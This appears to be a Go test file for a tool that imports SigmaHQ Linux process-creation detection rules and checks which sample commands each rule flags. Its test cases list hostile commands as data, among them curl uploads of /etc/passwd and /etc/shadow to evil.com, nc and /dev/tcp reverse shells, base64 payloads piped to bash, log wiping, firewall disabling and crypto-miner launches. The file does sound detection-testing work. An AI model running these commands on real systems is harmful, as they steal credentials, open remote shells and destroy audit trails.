package sigma_test

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/decnet/ttp/abi"
	"github.com/decnet/ttp/rules"
	"github.com/decnet/ttp/rules/corpus"
	"github.com/decnet/ttp/rules/sigma"
)

const (
	fixtures  = "../../testdata/sigma/rules"
	shipped   = "../sigmahq"
	sourceURL = "https://github.com/SigmaHQ/sigma/blob/8eaafff1f2845a696050e05e72ba1140ee190698/rules/linux/process_creation"
)

func lintOK(name string, data []byte) error {
	_, err := rules.Parse(name, data)
	return err
}

// importFixtures converts the real SigmaHQ fixtures into a temporary directory and returns
// the loaded rules by Sigma file name, and the report.
func importFixtures(t *testing.T) (map[string]*rules.Rule, *rules.RuleSet, *sigma.Report, string) {
	t.Helper()
	out := t.TempDir()
	rep, err := sigma.Import(fixtures, out, sigma.Options{SourceURL: sourceURL, Validate: lintOK})
	if err != nil {
		t.Fatal(err)
	}
	loaded, err := rules.LoadDir(out)
	if err != nil {
		t.Fatalf("converted rules do not lint: %v", err)
	}
	set, err := rules.NewRuleSet(loaded)
	if err != nil {
		t.Fatal(err)
	}
	byFile := map[string]*rules.Rule{}
	for _, c := range rep.Converted {
		r, ok := set.Rule(c.ID)
		if !ok {
			t.Fatalf("%s: %s not loaded", c.File, c.ID)
		}
		byFile[strings.TrimSuffix(strings.TrimPrefix(c.File, "proc_creation_lnx_"), ".yml")] = r
	}
	return byFile, set, rep, out
}

func fired(set *rules.RuleSet, text string) map[string]bool {
	ev := &abi.Event{SourceKind: abi.KindCommand, SourceID: "t", Payload: map[string]any{"command_text": text}}
	out := map[string]bool{}
	for _, d := range set.Eval(ev, nil) {
		out[d.RuleID] = true
	}
	return out
}

// TestSample is the hand-written check of the converted sample: for each real SigmaHQ rule,
// commands it must fire on and commands it must not, through the same engine `ttp tag` runs.
// The fields are read off the shell structure (package doc): a wrapper is a process of its
// own, a pipe's reader has the writer as parent, a payload's parent is its shell.
func TestSample(t *testing.T) {
	byFile, set, _, _ := importFixtures(t)
	cases := []struct {
		rule      string
		fire, not []string
	}{
		{"wget_download_suspicious_directory",
			[]string{`wget http://1.2.3.4/x -O /tmp/x`, `cd /; wget --output-document=/tmp/.x http://e.com/a`,
				`sudo /usr/bin/wget -q http://a/b -O /tmp/b && chmod +x /tmp/b`, `sh -c "wget http://a/b -O /tmp/b"`},
			[]string{`wget http://1.2.3.4/x -O /var/x`, `wget -o /tmp/log http://a`, `curl http://a -o /tmp/x`,
				`echo wget -O /tmp/x`, `wget http://a/tmp/ x`}},
		{"susp_curl_fileupload",
			[]string{`curl -F "file=@/etc/passwd" http://evil.com/u`, `curl --upload-file /tmp/x http://a/`,
				`curl -d @/etc/shadow http://1.2.3.4`, `cat /etc/passwd | curl --data-binary @- http://x`},
			[]string{`curl -F "a=@b" http://localhost/up`, `curl -o /tmp/x http://a`, `curl -f http://a`,
				`wget --post-file=/etc/passwd http://a`, `echo curl -F x http://a`}},
		{"chmod_targeting_sensitive_directories",
			[]string{`chmod +x /tmp/x`, `chmod 777 /etc/passwd`, `cd /tmp && wget http://a/b; chmod 755 /opt/b`, `busybox chmod 777 /tmp/.x`},
			[]string{`chmod +x ./x`, `chmod 700 /tmp/apt-key-gpghome.abc`, `chmod 644 /etc/apparmor.d/tunables/home.d/ubuntu`,
				`ls /tmp/`, `echo chmod +x /tmp/x`}},
		{"services_stop_and_disable",
			[]string{`systemctl stop firewalld`, `systemctl disable apparmor.service`, `sudo systemctl stop ssh.socket`,
				`/usr/sbin/service ufw stop now`},
			[]string{`systemctl status sshd`, `systemctl start nginx`, `systemctl stop snap-snapd-x`,
				`systemctl --no-reload disable snap-snapd-a`, `echo systemctl stop x`}},
		{"system_network_connections_discovery",
			[]string{`w`, `netstat -antp`, `last -n 10`, `who | wc -l`, `/usr/sbin/lsof -i`},
			[]string{`ss -tunap`, `whoami`, `wall hi`, `ls -la`, `cat /var/log/wtmp`}},
		{"file_and_directory_discovery",
			[]string{`find / -perm -4000`, `ls -R /home`, `tree /root`, `findmnt`, `cd /tmp && find . -name "*.sh"`},
			[]string{`ls -la`, `locate passwd`, `file /bin/ls`, `grep -R x /etc`, `echo find`}},
		{"susp_interactive_bash",
			[]string{`bash -i 2>&1 | nc 10.0.0.1 4444`, `bash -i | /bin/netcat 1.2.3.4 53`, `bash -i |base64`},
			// the classic /dev/tcp reverse shell starts no child: nothing for this rule to see
			[]string{`bash -i >& /dev/tcp/1.2.3.4/4444 0>&1`, `bash -c 'nc 1.2.3.4 4444'`, `nc -lvp 4444`, `sh -i | nc 1.2.3.4 1`}},
		{"clear_logs",
			[]string{`rm -rf /var/log/*`, `shred -u /var/log/auth.log`, `cd / ; rm -f /var/log/wtmp /var/log/btmp`, `unlink /var/spool/mail/root`},
			[]string{`rm -f /var/log/sysstat/sa01`, `cat /var/log/auth.log`, `rm -rf /tmp/x`, `echo > /var/log/wtmp`, `ls /var/log`}},
		{"crypto_mining",
			[]string{`./xmrig -o pool.minexmr.com:4444 -u x --donate-level=0`, `nohup ./kswapd0 --algo=rx/0 --donate-level=1 &`,
				`/tmp/.x/miner -a cn -o stratum+tcp://xmr.pool.com:3333`, `echo c3RyYXR1bSt0Y3A6Ly9wb29s | base64 -d`},
			[]string{`./xmrig --help`, `ps aux | grep xmrig`, `cat /proc/cpuinfo`, `pkill -9 xmrig`, `wget http://pool.example/x`}},
		{"python_base64_encoded_execution",
			[]string{`python3 -c "import base64;exec(base64.b64decode('aW1wb3J0IG9z'))"`,
				`/usr/bin/python -c 'import base64,sys;exec(base64.b64decode(sys.argv[1]))' aW1w`,
				`cd /tmp; python2.7 -c "import base64;eval(base64.b32decode('X'))"`},
			[]string{`python3 -c "import os; os.system('id')"`, `echo "import base64" | python3`, `base64 -d x | python3`,
				`perl -e 'use MIME::Base64; print decode_base64($x)'`}},
		{"base64_execution",
			[]string{`sh -c "echo ZWNobyBoaQ== | base64 -d | bash"`, `bash -c 'echo aWQ= | base64 -d | sh'`,
				`nohup bash -c "echo x | base64 -d | sh" &`},
			[]string{`base64 /etc/passwd`, `echo aGk= | base64 -d`, `sh -c "cat x | bash"`,
				// typed at the prompt, no process's command line holds the pipeline (RATIONALE.md)
				`echo ZWNobyBoaQ== | base64 -d | bash`}},
		{"pnscan_binary_cli_pattern",
			[]string{`pnscan -W "2a 31 0d 0a" -R "2b 4f 4b" 10.0.0.0/16 6379`, `/tmp/pnscan -R '6f 6b' 192.168.0.0/16 22`,
				`nohup ./pnscan -W "50 49 4e 47" 1.2.0.0/16 6379 &`},
			[]string{`pnscan 10.0.0.0/8 22`, `nmap -p 6379 10.0.0.0/8`, `xxd -r dump`, `echo -W`}},
		{"env_shell_invocation",
			[]string{`env /bin/sh`, `/usr/bin/env /bin/bash -p`, `sudo env /bin/bash`, `env X=1 /bin/sh -c id`},
			[]string{`env`, `env | grep PATH`, `/usr/bin/env python3 x.py`, `bash -c env`}},
		{"nice_shell_execution",
			[]string{`nice /bin/sh`, `nice -n 19 /bin/bash`, `sudo nice /bin/sh`},
			[]string{`nice -n 10 ./miner`, `nice /bin/sh -c id`, `renice 10 1234`, `nice`}},
	}
	if len(cases) < 10 {
		t.Fatalf("the sample must hold at least 10 rules, has %d", len(cases))
	}
	for _, c := range cases {
		r := byFile[c.rule]
		if r == nil {
			t.Errorf("%s: not converted", c.rule)
			continue
		}
		for _, cmd := range c.fire {
			if !fired(set, cmd)[r.ID] {
				t.Errorf("%s (%s) must fire on %q", c.rule, r.ID, cmd)
			}
		}
		for _, cmd := range c.not {
			if fired(set, cmd)[r.ID] {
				t.Errorf("%s (%s) must not fire on %q", c.rule, r.ID, cmd)
			}
		}
	}
}

// TestImportFixtures: every fixture is either converted or listed with its reason.
func TestImportFixtures(t *testing.T) {
	_, _, rep, out := importFixtures(t)
	entries, _ := os.ReadDir(fixtures)
	if rep.Read != len(entries) || len(rep.Converted)+len(rep.Skipped) != rep.Read {
		t.Fatalf("read %d of %d files, %d converted + %d skipped", rep.Read, len(entries), len(rep.Converted), len(rep.Skipped))
	}
	got := rep.Reasons()
	want := map[string]int{"field User": 1, "no technique in tags": 1}
	if len(got) != len(want) || got["field User"] != 1 || got["no technique in tags"] != 1 {
		t.Errorf("reasons %v, want %v", got, want)
	}
	for _, e := range rep.Skipped {
		if e.File == "" || e.Line == 0 || e.Field == "" {
			t.Errorf("skip without file, line and field: %v", e)
		}
	}
	attr, err := os.ReadFile(filepath.Join(out, "ATTRIBUTION.md"))
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range rep.Converted {
		if !bytes.Contains(attr, []byte(c.SigmaID)) || c.Author != "" && !bytes.Contains(attr, []byte(c.Author)) {
			t.Errorf("ATTRIBUTION.md lacks %s (%s)", c.SigmaID, c.Author)
		}
	}
}

// TestShippedInSync: rules/sigmahq is exactly what the importer makes of the fixtures, so the
// shipped rules are regenerated, never edited (make it so with the command in RATIONALE.md).
func TestShippedInSync(t *testing.T) {
	_, _, _, out := importFixtures(t)
	names := func(dir string) []string {
		m, _ := filepath.Glob(filepath.Join(dir, "R*.yaml"))
		for i := range m {
			m[i] = filepath.Base(m[i])
		}
		sort.Strings(m)
		return append(m, "ATTRIBUTION.md")
	}
	a, b := names(out), names(shipped)
	if strings.Join(a, " ") != strings.Join(b, " ") {
		t.Fatalf("rules/sigmahq holds %v, the import makes %v", b, a)
	}
	for _, n := range a {
		x, _ := os.ReadFile(filepath.Join(out, n))
		y, _ := os.ReadFile(filepath.Join(shipped, n))
		if !bytes.Equal(x, y) {
			t.Errorf("rules/sigmahq/%s differs from a fresh import", n)
		}
	}
}

// TestStableIDs: importing again into the same directory keeps every rule's id.
func TestStableIDs(t *testing.T) {
	out := t.TempDir()
	first, err := sigma.Import(fixtures, out, sigma.Options{FirstID: 7000})
	if err != nil {
		t.Fatal(err)
	}
	// another first id: existing files still win
	again, err := sigma.Import(fixtures, out, sigma.Options{FirstID: 100})
	if err != nil {
		t.Fatal(err)
	}
	for i := range first.Converted {
		if first.Converted[i].ID != again.Converted[i].ID {
			t.Errorf("%s: id %s then %s", first.Converted[i].File, first.Converted[i].ID, again.Converted[i].ID)
		}
	}
}

// TestSampleCorpora scores rules/sigmahq against its corpora (testdata/sigma/corpus) as
// `ttp rules test --corpus testdata/sigma/corpus rules/sigmahq` does: every rule at its band.
func TestSampleCorpora(t *testing.T) {
	loaded, err := rules.LoadDir(shipped)
	if err != nil {
		t.Fatal(err)
	}
	set, err := rules.NewRuleSet(loaded)
	if err != nil {
		t.Fatal(err)
	}
	corpora, err := corpus.LoadDir("../../testdata/sigma/corpus")
	if err != nil {
		t.Fatal(err)
	}
	scores, err := corpus.Run(context.Background(), loaded, corpora, func(_ context.Context, ev abi.Event) (map[string]bool, error) {
		out := map[string]bool{}
		for _, d := range set.Eval(&ev, nil) {
			out[d.RuleID] = true
		}
		return out, nil
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range scores {
		if !s.Pass() {
			t.Errorf("%s: %v", s.Rule, s.Failures)
		}
	}
}
